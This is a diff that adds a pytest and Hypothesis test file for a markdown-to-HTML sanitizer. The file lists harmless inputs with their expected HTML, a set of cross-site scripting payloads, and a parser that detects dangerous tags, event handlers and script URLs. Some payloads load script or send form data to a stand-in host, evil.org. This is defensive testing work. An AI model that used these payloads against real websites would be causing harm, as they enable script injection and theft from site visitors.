@@ -1,0 +1,129 @@
+"""Bodies as HTML: what is right passes, what could do harm does not."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from store.documents.markdown import to_html
+
+HARMLESS = {
+    "": "",
+    "*a* and **b**": "<p><em>a</em> and <strong>b</strong></p>\n",
+    "~~gone~~": "<p><s>gone</s></p>\n",
+    "# A\n\n- b\n- c": "<h1>A</h1>\n<ul>\n<li>b</li>\n<li>c</li>\n</ul>\n",
+    "a & b < c": "<p>a &amp; b &lt; c</p>\n",
+    "<b>raw</b>": "<p><b>raw</b></p>\n",
+    "<https://a.org>": '<p><a href="https://a.org" rel="noopener noreferrer">https://a.org</a></p>\n',
+    "![a](b.png)": '<p><img src="b.png" alt="a"></p>\n',
+    "`<script>`": "<p><code>&lt;script&gt;</code></p>\n",
+}
+HARMFUL = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.org/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<img src=x onerror="alert(1)">',
+    "<img src=x onerror=alert(1)//",
+    "<body onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" &#106;avascript:alert(1)">x</a>',
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x)",
+    "![x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "<iframe src=//evil.org></iframe>",
+    "<object data=x></object><embed src=x>",
+    "<form action=//evil.org><input name=x><button>x</button></form>",
+    '<p style="position:fixed">x</p>',
+    "<style>body{display:none}</style>",
+    '<link rel=stylesheet href=//evil.org/x.css><meta http-equiv=refresh content="0;url=//evil">',
+    "<base href=//evil.org>",
+    "<!-- comment --><![CDATA[<script>alert(1)</script>]]><?php x ?>",
+]
+REFUSED = {
+    "script",
+    "style",
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "input",
+    "button",
+    "link",
+    "meta",
+    "base",
+    "svg",
+    "body",
+}
+
+
+class Harm(HTMLParser):
+    """Finds what could do harm in HTML."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        """Look at an element and its attributes."""
+        if tag in REFUSED:
+            self.found.append(tag)
+        for name, value in attrs:
+            address = "".join((value or "").split()).lower()
+            scheme = address.partition(":")[0] + ":"
+            if name.startswith("on") or name == "style":
+                self.found.append(name)
+            if name in ("href", "src") and scheme in ("javascript:", "data:", "vbscript:"):
+                self.found.append(address)
+
+    def handle_comment(self, data):
+        """Comments can hide things from a parser; none pass."""
+        self.found.append(data)
+
+
+def harm(html):
+    """Return what could do harm in it."""
+    parser = Harm()
+    parser.feed(html)
+    parser.close()
+    return parser.found
+
+
+@pytest.mark.parametrize(("body", "html"), HARMLESS.items())
+def test_harmless(body, html):
+    """Markdown is what it should be, and harmless HTML passes."""
+    assert to_html(body) == html
+
+
+def test_tables():
+    """Tables are read too."""
+    assert "<td>1</td>" in to_html("| a |\n| - |\n| 1 |")
+
+
+@pytest.mark.parametrize("body", HARMFUL)
+@pytest.mark.parametrize("place", ["{}", "text {} text", "> {}", "- {}", "| a |\n|-|\n| {} |"])
+def test_harmful(body, place):
+    """Scripts, handlers, frames, forms and addresses that run do not pass, wherever they stand."""
+    assert harm(to_html(place.format(body))) == []
+
+
+def test_the_test():
+    """What is looked for would be found."""
+    for body in ("<script>", "<b onclick=x>", "<a href=' java\nscript:x'>", "<!-- a -->"):
+        assert harm(body)
+
+
+@given(
+    st.lists(st.sampled_from((*HARMFUL, *HARMLESS, "<", ">", '"', "\n\n", "`", "[")) | st.text())
+)
+def test_any_body(parts):
+    """Nothing harmful comes from any mixture, and nothing raises."""
+    assert harm(to_html("".join(parts))) == []
